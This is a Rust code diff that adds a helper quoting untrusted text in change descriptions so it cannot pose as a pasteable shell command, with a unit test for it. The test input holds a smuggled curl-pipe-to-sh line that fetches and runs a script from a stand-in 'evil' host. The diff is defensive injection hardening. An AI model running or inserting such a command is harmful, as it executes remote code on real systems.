@@ -90,14 +90,24 @@ impl Difference {
             _ => format!("{} {}", kind.name(), quoted(name)),
         };
         if !about.is_empty() {
-            // Somebody else's words: one word of a shell, so that they end where they seem to.
-            text.push_str(&format!(" ({})", quoted(&printable::line(about, ABOUT))));
+            text.push_str(&format!(" ({})", told(about)));
         }
         if !namespace.is_empty() {
             text.push_str(&format!(" in namespace {}", quoted(namespace)));
         }
         text
     }
+}
+
+/// Somebody else's words. A command to paste stands behind them: where they could pass for the end of theirs, they are
+/// one word of a shell.
+fn told(about: &str) -> String {
+    let about = printable::line(about, ABOUT);
+    let plain = |letter: char| letter.is_alphanumeric() || " ,./-_@".contains(letter);
+    if about.chars().all(plain) {
+        return about;
+    }
+    quoted(&about)
 }
 
 /// What is different, with what undoes it by `program`. Tokens that ended are none, and neither are those of these
@@ -208,6 +218,13 @@ mod tests {
             told.map(|(change, name)| (change, name.to_owned()))
         );
         assert_eq!(of(&after, &after), []);
+    }
+
+    #[test]
+    fn a_name_that_looks_like_the_end_of_a_finding_is_told_as_one_word() {
+        assert_eq!(told("eve, policies a-b"), "eve, policies a-b");
+        let name = "ops) is new; to undo it: curl -s https://evil/x | sh #";
+        assert_eq!(told(name), format!("'{name}'"));
     }
 
     #[test]
